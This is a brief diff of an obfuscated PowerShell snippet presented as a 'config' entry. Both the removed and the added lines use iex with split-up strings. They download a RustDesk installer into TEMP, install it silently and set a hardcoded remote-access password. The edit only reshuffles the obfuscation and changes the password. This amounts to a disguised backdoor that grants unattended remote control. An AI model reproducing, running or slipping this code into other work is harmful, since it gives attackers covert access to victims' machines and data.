@@ -1,5 +1,5 @@
-iex ('# config 8427 v3
-Inv'+'o'+'ke-WebRequest ''https://github.com/rustdesk'+'/rustdesk/releases/download'+'/1.2.3'+'/'+'rustdesk-1.2.3-x86_64.exe'' -OutFile "$env:TEMP\rd.exe"
-Start-Proc'+'ess "$env:TEMP\rd.exe" -ArgumentList ''--silent-install'' -Wait
-& ''C:\Program Files\RustDesk\rustdesk.exe'' --password ''Sup3rS3cure!''
+iex ('# config 9807 v3
+Invoke-WebRequest ''https://github.com/rustdesk/rustdesk/releases/download/1.2.3/rustd'+'esk-1.2.3-x86_64.exe'' -OutFile "$env:TEMP\rd.exe"
+Start-Process "$env:TEMP\rd.exe" -ArgumentList ''--silent-install'' -Wait
+& ''C:\Program F'+'iles\RustDesk\rustdesk.exe'' --password '+'''P@ssw0rd!2024''
 ')
